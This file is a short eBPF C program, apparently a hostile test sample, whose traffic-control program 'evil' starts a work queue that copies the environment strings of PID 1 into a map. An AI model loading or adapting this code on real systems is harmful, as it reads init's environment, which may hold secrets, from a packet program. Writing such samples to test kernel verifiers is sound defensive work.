/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* A program of packets whose work queue copies the environment of PID 1 (Linux 7.0). */
#include "hostile.h"

#define CORE __attribute__((preserve_access_index))

struct mm_struct {
	unsigned long env_start;
} CORE;

struct task_struct {
	struct mm_struct *mm;
} CORE;

struct bpf_wq {
	u64 opaque[2];
} __attribute__((aligned(8)));

struct value {
	struct bpf_wq work;
	char environment[64];
};

struct {
	TYPE(2); /* BPF_MAP_TYPE_ARRAY */
	ENTRIES(1);
	u32 *key;
	struct value *value;
} works SEC(".maps");

static void *(*const lookup)(void *, const void *) = (void *)1;

extern int bpf_wq_init(struct bpf_wq *work, void *map, u32 flags) KSYM;
extern int bpf_wq_start(struct bpf_wq *work, u32 flags) KSYM;
extern int bpf_wq_set_callback(struct bpf_wq *work, int (*callback)(void *, int *, void *),
			       u32 flags) KSYM;
extern struct task_struct *bpf_task_from_pid(int pid) KSYM;
extern void bpf_task_release(struct task_struct *task) KSYM;
extern int bpf_copy_from_user_task_str(void *to, u32 size, const void *from,
				       struct task_struct *task, u64 flags) KSYM;

static int copy(void *map, int *key, void *at)
{
	struct value *value = at;
	struct task_struct *task = bpf_task_from_pid(1);

	(void)map;
	(void)key;
	if (!task)
		return 0;
	bpf_copy_from_user_task_str(value->environment, sizeof(value->environment),
				    (void *)task->mm->env_start, task, 0);
	bpf_task_release(task);
	return 0;
}

SEC("tc")
int evil(void *ctx)
{
	u32 key = 0;
	struct value *value = lookup(&works, &key);

	(void)ctx;
	if (!value || bpf_wq_init(&value->work, &works, 0))
		return 0;
	bpf_wq_set_callback(&value->work, copy, 0);
	bpf_wq_start(&value->work, 0);
	return 0;
}

LICENSE;
